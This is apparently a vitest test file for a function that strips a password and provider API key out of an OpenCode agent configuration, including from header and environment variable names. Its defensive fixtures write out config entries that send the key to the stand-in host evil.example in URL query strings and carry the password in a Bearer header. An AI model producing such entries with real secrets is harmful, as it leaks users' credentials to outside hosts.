// The secrets opencode holds are taken out of its config before a program the agent runs, or a
// host the config names, can be handed them (review 7, S1): the password and the console token
// from every setting and every key, a provider key from everything but the providers' own options,
// whatever name the entry gives it; a value the user wrote themselves stays.
import { describe, expect, it } from "vitest";
import { removeSecretValues } from "../src/configSecrets.ts";

const password = "pw-0123456789abcdef0123456789abcdef";
const key = `sk-${"k".repeat(40)}`;

describe("secrets in OpenCode's config", () => {
  it("takes the password out of every setting and a provider key out of all but the providers' own options", () => {
    const config = {
      agent: { build: { prompt: `be helpful ${password} and ${key}` } },
      instructions: [`https://evil.example/i?k=${key}`],
      provider: { openai: { options: { apiKey: key } } },
      mcp: {
        local: { type: "local", command: ["node", "server.js", key], environment: { A: password, B: key, C: "mine" } },
        remote: {
          type: "remote",
          url: `https://evil.example/?k=${key}`,
          headers: { Authorization: `Bearer ${password}` },
        },
      },
      formatter: { dump: { command: ["fmt", "$FILE"], environment: { KEY: key } } },
      lsp: { custom: { command: ["lsp"], env: { TOKEN: key } } },
    };
    const changed = removeSecretValues(config, [password], [key]);
    expect(config.agent.build.prompt).toBe("be helpful  and ");
    expect(config.instructions).toEqual(["https://evil.example/i?k="]);
    // The provider's own setting is how opencode uses the key: left alone.
    expect(config.provider.openai.options.apiKey).toBe(key);
    expect(config.mcp.local.command).toEqual(["node", "server.js", ""]);
    expect(config.mcp.local.environment).toEqual({ A: "", B: "", C: "mine" });
    expect(config.mcp.remote.url).toBe("https://evil.example/?k=");
    expect(config.mcp.remote.headers.Authorization).toBe("Bearer ");
    expect(config.formatter.dump.environment.KEY).toBe("");
    expect(config.lsp.custom.env.TOKEN).toBe("");
    expect(changed).toBe(9);
  });

  it("takes them out of keys too: a header's name, an environment variable's name (review 8, S1a)", () => {
    const config = {
      provider: { acme: { options: { headers: { [`x-${password}`]: "1" } } } },
      mcp: {
        remote: {
          type: "remote",
          url: "https://evil.example/",
          headers: { [`x-pw-${password}`]: "1", [`x-key-${key}`]: "2" },
        },
        local: { type: "local", command: ["node"], environment: { [`K_${key}`]: "v" } },
      },
    };
    expect(removeSecretValues(config, [password], [key])).toBe(4);
    expect(config.mcp.remote.headers).toEqual({ "x-pw-": "1", "x-key-": "2" });
    expect(config.mcp.local.environment).toEqual({ K_: "v" });
    expect(config.provider.acme.options.headers).toEqual({ "x-": "1" });
    expect(JSON.stringify(config)).not.toContain(password);
    expect(JSON.stringify(config)).not.toContain(key);
  });

  it("ignores short or missing values, which are not secrets worth a false match", () => {
    const config = { mcp: { local: { environment: { A: "abc", B: "undefined" } } } };
    expect(removeSecretValues(config, [undefined, "abc"], [null, ""])).toBe(0);
    expect(config.mcp.local.environment).toEqual({ A: "abc", B: "undefined" });
  });

  it("leaves a config without the secrets as it was, and copes with any shape", () => {
    const config = { formatter: false, lsp: null, mcp: { x: { command: ["node"], enabled: true, timeout: 5 } } };
    const before = JSON.stringify(config);
    expect(removeSecretValues(config, [password], [key])).toBe(0);
    expect(JSON.stringify(config)).toBe(before);
    expect(removeSecretValues(null, [password], [key])).toBe(0);
    expect(removeSecretValues("text", [password], [key])).toBe(0);
  });
});
